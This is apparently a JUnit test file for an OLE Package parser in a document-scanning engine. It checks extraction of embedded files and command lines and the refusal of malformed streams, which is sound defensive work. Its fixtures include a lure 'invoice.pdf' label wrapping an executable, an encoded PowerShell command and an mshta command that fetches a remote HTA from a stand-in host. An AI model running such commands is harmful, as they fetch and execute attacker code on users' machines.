package dev.prefilter.engine.office.ole;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prefilter.engine.office.OfficeFixtures;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

class OlePackageParserTest {

    @Test
    void readsAFilePackageThatPoiWrote() throws Exception {
        byte[] stream = OfficeFixtures.packageStream(
                "invoice.pdf", "C:\\Users\\a\\invoice.exe", "C:\\Temp\\invoice.exe", OfficeFixtures.EXE);

        OlePackage pkg = OlePackageParser.parse(stream, true);

        assertEquals(OlePackage.Kind.FILE, pkg.kind());
        assertEquals("invoice.pdf", pkg.label());
        assertEquals("C:\\Users\\a\\invoice.exe", pkg.sourcePath());
        assertEquals("C:\\Temp\\invoice.exe", pkg.tempPath());
        assertArrayEquals(OfficeFixtures.EXE, pkg.data());
        assertFalse(pkg.truncated());
        assertEquals("invoice.exe", pkg.fileName(), "the file written out is named by the temp path, not the caption");
    }

    @Test
    void prefersTheUnicodeNamesWhenTheyFollowTheData() throws Exception {
        byte[] stream = OfficeFixtures.packageStream(
                "ünicöde-수식.txt", "C:\\ünicöde-수식.txt", "C:\\Temp\\ünicöde-수식.txt", OfficeFixtures.TEXT);

        OlePackage pkg = OlePackageParser.parse(stream, true);

        assertEquals("ünicöde-수식.txt", pkg.label());
        assertEquals("ünicöde-수식.txt", pkg.fileName());
    }

    @Test
    void readsACommandLinePackage() throws Exception {
        byte[] stream = OfficeFixtures.commandPackageStream(
                "calc.exe", "C:\\Windows\\System32\\calc.exe", "cmd.exe /c powershell -enc AAAA");

        OlePackage pkg = OlePackageParser.parse(stream, true);

        assertEquals(OlePackage.Kind.COMMAND, pkg.kind());
        assertEquals("cmd.exe /c powershell -enc AAAA", pkg.command());
        assertNull(pkg.data());
    }

    @Test
    void readsALengthPrefixedCommandLine() throws Exception {
        byte[] command = "mshta http://x.test/a.hta\0".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();
        body.writeBytes(new byte[] {2, 0});
        body.writeBytes("a\0b\0".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        body.writeBytes(new byte[] {0, 0, 1, 0, (byte) command.length, 0, 0, 0});
        body.writeBytes(command);

        OlePackage pkg = OlePackageParser.parse(body.toByteArray(), false);

        assertEquals("mshta http://x.test/a.hta", pkg.command());
    }

    @Test
    void clampsADataSizeThatRunsPastTheStreamAndSaysSo() throws Exception {
        byte[] stream = OfficeFixtures.packageStream("a.exe", "C:\\a.exe", "C:\\Temp\\a.exe", OfficeFixtures.EXE);
        int dataSizeAt = indexOf(stream, new byte[] {0, 2, 0, 0, 'M', 'Z'}); // u32 512, then the MZ
        assertTrue(dataSizeAt > 0);
        byte[] cut = Arrays.copyOf(stream, dataSizeAt + 4 + 100);

        OlePackage pkg = OlePackageParser.parse(cut, true);

        assertTrue(pkg.truncated());
        assertEquals(100, pkg.data().length);
        assertEquals('M', pkg.data()[0]);
    }

    @Test
    void refusesDataThatIsNotAPackage() {
        byte[] notPackage = {10, 0, 0, 0, 7, 0, 'x', 0, 'y', 0};
        assertFalse(OlePackageParser.looksLikePackage(notPackage, true));
        MalformedObjectException e =
                assertThrows(MalformedObjectException.class, () -> OlePackageParser.parse(notPackage, true));
        assertTrue(e.getMessage().contains("header"));
    }

    @Test
    void refusesAnUnterminatedLabel() {
        byte[] stream = {20, 0, 0, 0, 2, 0, 'a', 'b', 'c'};
        assertThrows(MalformedObjectException.class, () -> OlePackageParser.parse(stream, true));
    }

    @Test
    void refusesEveryTruncationOfAPackageWithoutThrowingAnythingElse() {
        byte[] stream = OfficeFixtures.packageStream("a.txt", "C:\\a.txt", "C:\\Temp\\a.txt", OfficeFixtures.TEXT);
        for (int len = 0; len < stream.length; len++) {
            byte[] cut = Arrays.copyOf(stream, len);
            try {
                OlePackageParser.parse(cut, true);
            } catch (MalformedObjectException expected) {
                // a clean refusal is the contract; any other exception fails the test
            }
        }
    }

    private static int indexOf(byte[] data, byte[] pattern) {
        outer:
        for (int i = 0; i <= data.length - pattern.length; i++) {
            for (int j = 0; j < pattern.length; j++) {
                if (data[i + j] != pattern[j]) continue outer;
            }
            return i;
        }
        return -1;
    }
}
